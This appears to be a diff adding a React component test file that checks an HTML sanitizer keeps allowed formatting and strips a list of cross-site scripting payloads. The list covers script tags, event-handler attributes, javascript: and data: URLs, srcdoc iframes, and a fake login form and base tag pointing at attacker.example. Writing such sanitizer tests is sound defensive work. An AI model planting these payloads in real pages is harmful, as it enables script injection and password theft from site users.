@@ -1,0 +1,35 @@
+import { render } from '@testing-library/react';
+import { expect, it } from 'vitest';
+import { RichText } from './rich-text';
+
+const drawn = (html: string) => render(<RichText html={html} />).container.innerHTML;
+
+it('draws what is allowed', () => {
+  expect(drawn('<h2>Um</h2><p>Dois <strong>três</strong></p><ul><li>quatro</li></ul>')).toBe(
+    '<div class="rich-text"><h2>Um</h2><p>Dois <strong>três</strong></p><ul><li>quatro</li></ul></div>',
+  );
+  expect(drawn('<a href="https://balcao.demo/x">x</a>')).toContain('href="https://balcao.demo/x"');
+});
+
+it.each([
+  '<script>window.hit=1</script>',
+  '<img src=x onerror="window.hit=1">',
+  '<svg onload="window.hit=1"><script>window.hit=1</script></svg>',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<a href=" jAvAsCrIpT:window.hit=1">x</a>',
+  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
+  '<iframe srcdoc="<script>window.hit=1</script>"></iframe>',
+  '<p onclick="window.hit=1" style="position:fixed">x</p>',
+  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
+  '<form action="https://attacker.example"><input name="senha"><button>Entrar</button></form>',
+  '<style>body{display:none}</style><base href="https://attacker.example">',
+  '<object data="javascript:window.hit=1"></object><embed src="x"><template><script>1</script></template>',
+])('of %s nothing but text is left', (html) => {
+  const shown = drawn(html);
+  expect(shown.replace(/<\/?(div|p)( class="rich-text")?>/g, '')).not.toMatch(/<|javascript:|on\w+=|style=/i);
+  expect((window as { hit?: number }).hit).toBeUndefined();
+});
+
+it('text that looks like a tag stays text', () => {
+  expect(drawn('&lt;script&gt;')).toBe('<div class="rich-text">&lt;script&gt;</div>');
+});
